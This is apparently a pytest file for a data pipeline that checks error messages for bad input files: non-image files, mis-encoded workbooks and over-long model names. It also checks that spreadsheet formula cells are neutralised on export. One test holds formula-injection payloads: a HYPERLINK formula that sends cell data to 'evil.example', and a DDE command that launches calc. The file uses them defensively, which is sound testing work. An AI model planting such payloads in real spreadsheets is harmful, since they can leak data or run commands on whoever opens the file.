"""Bad input files of issue 58 (reliability round 5), injected for real: an FG-BMK official source listing a
file that is not an image, prediction workbooks in UTF-16 / Latin-1 / an xlsx named .tsv, formula cells in a
workbook, and a model name too long for a file name. Each gets an error naming the file (and line or field)
and the fix, or is read correctly where that is unambiguous; nothing the user gave is changed."""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image

from soco_pipeline.tasks.fgbmk.readers import FgbmkFormatError, items_from_dataset, read_machine_dataset
from tests.faults import child_env

pytestmark = pytest.mark.unit

SOCO = [str(Path(sys.executable).parent / "soco")]


def fgbmk_folder(root: Path) -> Path:
    """A two-class machine-oriented dataset: train.csv / test.csv / classes.txt and 8 small JPEGs."""
    folder = root / "mini"
    (folder / "imgs").mkdir(parents=True)
    (folder / "classes.txt").write_text("gull\nwolf\n")
    for split, n in (("train", 3), ("test", 1)):
        lines = []
        for c in (0, 1):
            for i in range(n):
                Image.new("RGB", (40, 32), (200 * c, 40, 40)).save(folder / f"imgs/{split}_{c}_{i}.jpg")
                lines.append(f"imgs/{split}_{c}_{i}.jpg,{c}")
        (folder / f"{split}.csv").write_text("\n".join(lines) + "\n")
    return folder


def test_fgbmk_file_that_is_not_an_image_is_named_with_its_csv_line(tmp_path):
    folder = fgbmk_folder(tmp_path)
    bad = folder / "imgs" / "train_1_1.jpg"  # line 5 of train.csv
    bad.write_bytes(b"<html>404 Not Found</html>")
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    ds = read_machine_dataset(str(folder))
    with pytest.raises(FgbmkFormatError) as e:
        items_from_dataset(ds)
    msg = str(e.value)
    assert msg.startswith(f"{folder}/train.csv:5: {bad} is not a readable image (UnidentifiedImageError")
    assert (
        "it starts b'<html>404 Not Fo'" in msg
        and "replace it with the JPEG/PNG image, or remove line 5" in msg
    )
    assert "LocalFileOpener" not in msg
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before  # nothing touched
    Image.new("RGB", (40, 32), (200, 40, 40)).save(bad, format="JPEG")  # the fix the message gives
    items = items_from_dataset(read_machine_dataset(str(folder)))
    assert len(items) == 8 and set(items.width) == {40}


WORKBOOK = Path(__file__).parent / "data" / "mmvm_parity" / "workbook.xlsx"  # 42 rows, accuracy 14.29


def score(tmp_path: Path, path: Path, *extra: str) -> subprocess.CompletedProcess:
    """`soco score-workbook mmvm PATH` through the console script, in a fresh process."""
    return subprocess.run(
        [*SOCO, "score-workbook", "mmvm", str(path), *extra],
        capture_output=True,
        text=True,
        timeout=120,
        env=child_env(SOCO_STORAGE=str(tmp_path / "storage")),
    )


def test_workbooks_in_utf16_or_an_xlsx_named_tsv_are_read_and_other_encodings_named_with_the_fix(tmp_path):
    frame = pd.read_excel(WORKBOOK, dtype=str)
    frame.loc[0, "question"] = "Où est l'objet marqué ? " + frame.loc[0, "question"]  # non-ASCII text
    utf16 = tmp_path / "excel-unicode-text.tsv"  # Excel's "Unicode Text": UTF-16 LE with a byte-order mark
    frame.to_csv(utf16, sep="\t", index=False, encoding="utf-16")
    renamed = tmp_path / "saved-as.tsv"
    renamed.write_bytes(WORKBOOK.read_bytes())
    for path in (utf16, renamed):
        done = score(tmp_path, path)
        assert done.returncode == 0, done.stderr
        assert f"{path}: 42 rows, accuracy 14.29" in done.stdout
    latin1 = tmp_path / "latin1.tsv"
    latin1.write_bytes(frame.to_csv(sep="\t", index=False).encode("latin-1"))
    no_bom = tmp_path / "utf16-no-bom.tsv"
    no_bom.write_bytes(frame.to_csv(sep="\t", index=False).encode("utf-16-le"))
    given = {p: p.read_bytes() for p in (latin1, no_bom)}
    bad = score(tmp_path, latin1)
    assert bad.returncode == 2 and "codec" not in bad.stderr and "Traceback" not in bad.stderr
    assert bad.stderr.startswith(f"error: {latin1}:2: not UTF-8 (byte 0xf9 at column ")  # the 'ù' of "Où"
    assert "Save it as UTF-8" in bad.stderr and f"iconv -f LATIN1 -t UTF-8 {latin1}" in bad.stderr
    bad = score(tmp_path, no_bom)
    assert bad.returncode == 2 and bad.stderr.startswith(f"error: {no_bom}: holds NUL bytes")
    assert "UTF-16 without a byte-order mark" in bad.stderr and "save it as UTF-8" in bad.stderr
    assert {p: p.read_bytes() for p in given} == given  # the user's files are never rewritten
    fixed = tmp_path / "latin1.utf8.tsv"  # the fix the message gives
    fixed.write_text(latin1.read_bytes().decode("latin-1"), encoding="utf-8")
    assert f"{fixed}: 42 rows, accuracy 14.29" in score(tmp_path, fixed).stdout


def test_formula_cells_are_neutralised_in_the_out_csv(tmp_path):
    import csv
    import re

    from soco_pipeline.report.csv_safe import FORMULA_START, PLAIN_NUMBER

    frame = pd.read_excel(WORKBOOK, dtype=str)
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"A")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tA"]
    frame.loc[: len(attacks) - 1, "prediction"] = attacks
    frame.loc[5, "policy"] = "=1+1"
    book = tmp_path / "attack.tsv"  # text cells (an xlsx would store these as formulas, read as their value)
    frame.to_csv(book, sep="\t", index=False)
    out = tmp_path / "verdicts.csv"
    done = score(tmp_path, book, "--out", str(out), "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(out.open(newline="")))
    cells = [c for r in rows for c in r] + [c for r in csv.reader(done.stdout.splitlines()[:-2]) for c in r]
    live = [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(PLAIN_NUMBER, c)]
    assert live == []
    table = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(table) == 42  # every row kept, its text readable: the original after the leading '
    assert set(attacks) <= {p[1:] for p in table["prediction"] if p.startswith("'")}
    assert "'=1+1" in set(table["policy"])


def test_every_owasp_formula_start_is_neutralised_and_numbers_are_not():
    from soco_pipeline.report.csv_safe import neutralise_formulas, safe_csv

    cells = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\r=2", "-1", "+2.5e3", "plain", None]
    out = neutralise_formulas(pd.DataFrame({"text": cells, "n": range(len(cells))}))
    assert list(out["text"][:6]) == ["'" + c for c in cells[:6]]
    assert list(out["text"][6:9]) == cells[6:9] and out["text"].iloc[9] is None
    assert list(out["n"]) == list(range(len(cells)))
    back = pd.read_csv(io.StringIO(safe_csv(pd.DataFrame({"text": cells}))), dtype=str, keep_default_na=False)
    assert len(back) == len(cells) and back["text"].iloc[5] == "'\r=2"  # a lone CR starts no new row


def test_a_model_name_too_long_for_a_file_name_is_refused_when_the_spec_is_read(tmp_path):
    from soco_pipeline.backbones.spec_files import scan_specs
    from soco_pipeline.storage import MAX_NAME_LENGTH, write_parquet_atomic

    oracle = (Path(__file__).parent.parent / "assets" / "backbones" / "oracle_part.yaml").read_text()
    folder = tmp_path / "backbones"
    folder.mkdir()
    long_name = "m" * 230
    spec = tmp_path / f"{long_name}.yaml"
    spec.write_text(oracle)
    done = subprocess.run(
        [*SOCO, "add-backbone", str(spec)],
        capture_output=True,
        text=True,
        timeout=120,
        env=child_env(SOCO_BACKBONES_DIR=str(folder), SOCO_STORAGE=str(tmp_path / "storage")),
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert (
        f"{spec}: backbone name (the file stem) is 230 bytes long; at most {MAX_NAME_LENGTH} fit"
        in done.stderr
    )
    assert (
        "Rename the file to a shorter name" in done.stderr and list(folder.iterdir()) == []
    )  # nothing added
    spec.rename(
        folder / spec.name
    )  # dropped into the folder by hand: the sensor's scan skips it with the reason
    valid, invalid = scan_specs(folder)
    assert valid == {} and "230 bytes long" in invalid[long_name]
    # the limit is what the pipeline's writes need: a name of MAX_NAME_LENGTH writes, one of 230 cannot
    write_parquet_atomic(pd.DataFrame({"a": [1]}), str(tmp_path / f"{'m' * MAX_NAME_LENGTH}.parquet"))
    with pytest.raises(OSError, match="too long"):
        write_parquet_atomic(pd.DataFrame({"a": [1]}), str(tmp_path / f"{long_name}.parquet"))


@pytest.mark.parametrize("name", ["my model", "m" * 230])
def test_backbone_and_lvlm_specs_refuse_the_same_bad_names(name):
    """Both spec parsers share one name check (storage.spec_name_problem): a character outside the file
    names' alphabet, or a name too long for them, is refused with the source and the fix."""
    from soco_pipeline.backbones.spec import BackboneSpecError
    from soco_pipeline.backbones.spec import parse_spec as parse_backbone
    from soco_pipeline.lvlm.specs import LvlmSpecError
    from soco_pipeline.lvlm.specs import parse_spec as parse_lvlm

    why = "may only hold letters, digits" if " " in name else "Rename the file to a shorter name"
    with pytest.raises(BackboneSpecError, match=f"^b.yaml: backbone name .*{why}"):
        parse_backbone({"kind": "oracle", "model": "part"}, name, "b.yaml")
    with pytest.raises(LvlmSpecError, match=f"^l.yaml: model name .*{why}"):
        parse_lvlm({"backend": "openai", "model": "m"}, name, "l.yaml")
